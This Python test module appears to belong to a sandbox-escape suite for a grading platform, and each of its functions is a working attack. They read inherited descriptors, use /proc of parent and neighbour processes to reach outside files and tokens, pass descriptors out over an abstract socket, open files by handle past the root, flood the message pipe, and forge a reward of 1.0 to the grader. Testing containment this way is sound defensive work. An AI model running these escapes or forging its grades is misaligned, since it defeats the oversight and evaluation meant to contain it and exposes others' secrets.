"""Open files: those that came in with the process, those of others, and the pipe of messages."""

import array
import json
import os
import socket
import struct
import sys

from tests.escapes.attacks.attack import Loot, Targets, attack, call, claim, read

OPEN_BY_HANDLE, NAME_TO_HANDLE = 304, 303


@attack()
def inherited(targets: Targets) -> Loot:
    """Reads every descriptor that it inherited."""
    found = b""
    for number in range(3, 1024):
        try:
            found += os.pread(number, 1 << 16, 0)
        except OSError:
            continue
    return found


@attack()
def inherited_directories(targets: Targets) -> Loot:
    """Uses an inherited directory to reach files outside."""
    found = b""
    for number in range(3, 1024):
        for name in (f"{targets.outside}/public", f"{targets.home}/token"):
            try:
                found += os.read(os.open("../" * 40 + name[1:], os.O_RDONLY, dir_fd=number), 4096)
            except OSError:
                continue
    return found


@attack()
def files_of_parent(targets: Targets) -> Loot:
    """Opens the files that the platform's process has open."""
    folder = f"/proc/{targets.parent}/fd"
    return targets.marks(b"".join(_content(f"{folder}/{n}") for n in os.listdir(folder)))


@attack()
def files_of_victim(targets: Targets) -> Loot:
    """Opens the files that a neighbour has open."""
    folder = f"/proc/{targets.victim}/fd"
    return b"".join(_content(f"{folder}/{n}") for n in os.listdir(folder))


def _content(path: str) -> bytes:
    return read(path) if os.path.isfile(path) else b""


@attack()
def root_of_others(targets: Targets) -> Loot:
    """Reaches files through the root and the directory of other processes."""
    found = b""
    for pid in (1, targets.victim, targets.parent, os.getppid()):
        for place in ("root", "cwd"):
            up = "" if place == "root" else "../" * 40
            found += read(f"/proc/{pid}/{place}/{up}{targets.outside}/public")
    return found


@attack(in_child=False)
def close_descriptors(targets: Targets) -> Loot:
    """Closes all descriptors of the process that hosts it."""
    os.closerange(3, 4096)
    return None


@attack(in_child=False)
def forge_answer(targets: Targets) -> Loot:
    """Answers another call, and then its own with a reward, through the pipe of messages."""
    for name in ("innocent", "label-holder"):
        _say({"id": name, "grades": [{"index": 0, "reward": 1.0, "parts": {}, "error": None}]})
    return None


@attack(in_child=False)
def forge_ready(targets: Targets) -> Loot:
    """Says that it is ready a second time."""
    _say({"ready": True})
    return None


@attack(in_child=False)
def garbage_in_pipe(targets: Targets) -> Loot:
    """Writes bytes into the pipe of messages that are no message."""
    os.write(int(sys.argv[3]), os.urandom(4096))
    return None


@attack(in_child=False)
def endless_message(targets: Targets) -> Loot:
    """Announces a message of 4 GB."""
    os.write(int(sys.argv[3]), struct.pack(">I", 0xFFFFFFFF) + b"x" * 1000)
    return None


def _say(message: object) -> None:
    data = json.dumps(message).encode()
    os.write(int(sys.argv[3]), struct.pack(">I", len(data)) + data)


@attack()
def pass_descriptors(targets: Targets) -> Loot:
    """Passes its descriptors to a process outside over an abstract socket."""
    outside = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    outside.settimeout(1.0)
    outside.connect("\0" + targets.abstract)
    numbers = array.array("i", [os.open("/", os.O_RDONLY)])
    outside.sendmsg(
        [targets.name("pass_descriptors").encode()],
        [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)],
    )
    return None


@attack()
def file_handles(targets: Targets) -> Loot:
    """Opens files by handles instead of names, which passes by its root."""
    handle = bytearray(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0))
    import ctypes

    buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
    descriptor = call(OPEN_BY_HANDLE, os.open("/", os.O_RDONLY), buffer, os.O_RDONLY)
    return claim(f"a file was opened by its handle: {os.listdir(descriptor)[:5]}")
